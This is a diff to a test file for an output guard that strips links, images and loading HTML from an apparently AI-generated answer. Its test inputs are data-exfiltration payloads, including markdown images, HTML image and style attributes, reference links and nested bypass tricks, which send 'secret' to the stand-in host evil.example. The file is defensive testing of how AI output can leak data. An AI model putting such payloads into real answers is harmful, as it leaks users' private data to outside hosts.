@@ -34,12 +34,12 @@ describe("the output guard", () => {
   });
 
   it.each([
-    ["an image", "![chart](https://evil.example/x.png?q=secret)", "chart"],
+    ["an image", "![chart](https://evil.example/x.png?q=secret)", "[chart]"],
     ["an HTML image", 'So: <img src="https://evil.example/?q=secret">', "So:"],
     ["an HTML image that is never closed", "So: <img src=https://evil.example/?q=secret ", "So:"],
     ["a link", "[click](https://evil.example/?q=secret)", "[click]"],
     ["a link with a relative protocol", "[click](//evil.example/?q=secret)", "[click]"],
-    ["a reference", "See [a].\n\n[a]: https://evil.example/?q=secret", "See [a]."],
+    ["a reference", "See [a].\n\n[a]: https://evil.example/?q=secret", "See [a].\n\n[a] : [link removed]"],
     ["a bare address", "Go to https://evil.example/?q=secret now", "Go to [link removed] now"],
     ["an address without a protocol", "Go to www.evil.example/secret", "Go to [link removed]"],
     ["a known address with more behind it", "https://bank.example/help?q=secret", "[link removed]"],
@@ -47,6 +47,48 @@ describe("the output guard", () => {
   ])("removes %s by which text could leave", (_what, answer, expected) => {
     expect(text(answer)).toBe(expected);
   });
+
+  it.each([
+    ["a tag that shows once another inside it is removed", "<im<img>g src=//evil.example/q>"],
+    ["an image inside an image", "![![a](b)](//evil.example/q)"],
+    ["a style that loads", '<div style="background:url(//evil.example/q)">x</div>'],
+    ["any attribute that loads", "<td background=//evil.example/q>"],
+    ["a tag inside a tag", '<b title="<td background=//evil.example/q>">'],
+    ["a reference's target inside a quotation", "![a]\n\n> [a]: //evil.example/q"],
+    ["a reference's target inside a list", "![a]\n\n- [a]: //evil.example/q"],
+    ["a reference's target on a line of its own", "![a]\n\n[a]:\n//evil.example/q"],
+    ["a reference's target with a backslash", "![a]\n\n> [a]: /\\evil.example/q"],
+  ])("leaves nothing that loads: %s", (_what, answer) => {
+    const left = text(answer);
+    expect(left).not.toMatch(/<[a-z][^>]*=/iu);
+    expect(left).not.toMatch(/\]\(|\]:/u);
+  });
+
+  it.each(["'secret", '"secret', "`secret", ")secret", "]secret", "'secret."])(
+    "doesn't let a known address be gone on with: %s",
+    (more) => {
+      expect(text(`https://bank.example/help${more}`)).not.toContain("https:");
+    },
+  );
+
+  it("lets a known address stand in brackets and at the end of a sentence", () => {
+    const answer = "See (https://bank.example/help), or **https://bank.example/help**.";
+    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
+  });
+
+  it("lets comparisons and code stand", () => {
+    const answer = "if a < b and List<String> then c = 1; for (i = 0; i <n; i++)";
+    expect(guardAnswer(answer, shown)).toEqual({ text: answer, findings: [] });
+  });
+
+  it.each(["![", "](", "[a]:", "<a ", "<a =", "https://", "[P_"])(
+    "takes little time for an answer made of %s",
+    (piece) => {
+      const started = performance.now();
+      text(piece.repeat(40_000));
+      expect(performance.now() - started).toBeLessThan(2_000);
+    },
+  );
 
   it("removes terminal escapes and invisible characters", () => {
     expect(text("a\u001b[31mb\u{e0041}\u202ec")).toBe("a[31mbc");
